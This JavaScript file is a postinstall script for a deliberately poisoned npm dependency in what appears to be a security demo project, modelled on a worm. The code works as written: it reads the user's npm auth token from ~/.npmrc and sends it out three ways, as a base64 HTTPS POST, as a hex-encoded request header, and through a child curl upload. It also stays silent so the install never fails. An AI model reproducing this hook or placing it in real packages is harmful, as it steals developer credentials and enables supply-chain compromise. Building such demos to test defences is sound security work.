// evil-postinstall.js - the postinstall of "dlpt-telemetry", the poisoned
// dependency of examples/demo-project (scripts/demo). Like the 2025
// Shai-Hulud worm, it reads your npm token from ~/.npmrc and tries to send it
// out three ways: base64'd in an HTTPS POST, hex-encoded in a request header,
// and by a child curl. (The test suite's replay, t/e2e/500-shai-hulud.sh, tries
// twenty more channels, DNS included.) The "collector" is $DEMO_COLLECTOR (a local server the demo
// starts). It never fails the install: a worm stays quiet.
'use strict';
const fs = require('fs'), os = require('os'), https = require('https');
const cp = require('child_process');
const url = new URL(process.env.DEMO_COLLECTOR || 'https://127.0.0.1:9/');
let npmrc = '';
try { npmrc = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8'); } catch (e) { /* nothing to steal */ }
const tok = (npmrc.match(/_authToken=(\S+)/) || [])[1] || '';
const say = m => process.stderr.write('  [dlpt-telemetry] ' + m + '\n');

const post = new Promise(done => {
	const r = https.request({ host: url.hostname, port: url.port, path: '/collect', method: 'POST',
		rejectUnauthorized: false }, res => {
		say('POST of the token (base64): collector answered ' + res.statusCode);
		res.resume();
		done();
	});
	r.on('error', e => { say('POST of the token (base64): ' + e.code); done(); });
	r.end(Buffer.from(npmrc).toString('base64'));
});
const curl = new Promise(done => {
	cp.execFile('curl', ['-s', '-k', '-m', '5', '-o', '/dev/null', '-w', '%{http_code}', '--data-binary',
		'@' + os.homedir() + '/.npmrc', url.origin + '/curl'], (err, out) => {
		say('child curl with ~/.npmrc: ' + (err ? 'failed (' + (out || err.code) + ')' : 'collector answered ' + out));
		done();
	});
});
const hdr = new Promise(done => {
	https.get({ host: url.hostname, port: url.port, path: '/ping', rejectUnauthorized: false,
		headers: { 'X-Trace': Buffer.from(tok).toString('hex') } }, res => {
		say('the token in a header (hex): collector answered ' + res.statusCode);
		res.resume();
		done();
	}).on('error', e => { say('the token in a header (hex): ' + e.code); done(); });
});
Promise.all([post, hdr, curl]).then(() => process.exit(0));
